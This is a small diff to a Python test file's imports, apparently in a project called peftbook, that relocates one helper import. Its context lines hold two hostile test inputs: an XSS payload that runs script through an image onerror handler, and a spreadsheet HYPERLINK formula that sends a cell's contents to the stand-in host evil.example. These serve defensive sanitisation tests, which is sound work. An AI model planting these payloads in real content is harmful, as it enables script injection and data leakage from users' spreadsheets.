@@ -42,6 +42,7 @@ import test_hostile
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from peftbook.runtime.doctor import kept_examination
 from peftbook.studio import access
 from peftbook.studio.api.examples import EXAMPLES, ROWS
 from peftbook.studio.api.page import operations
@@ -51,7 +52,6 @@ from peftbook.studio.store import Studio
 from peftbook.studio.tabular import FORMULA_STARTS
 from peftbook.studio.uploads import UploadStore
 from peftbook.tasks.table import Caps
-from peftbook.training.doctor import kept_examination
 
 MARKUP = "<img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
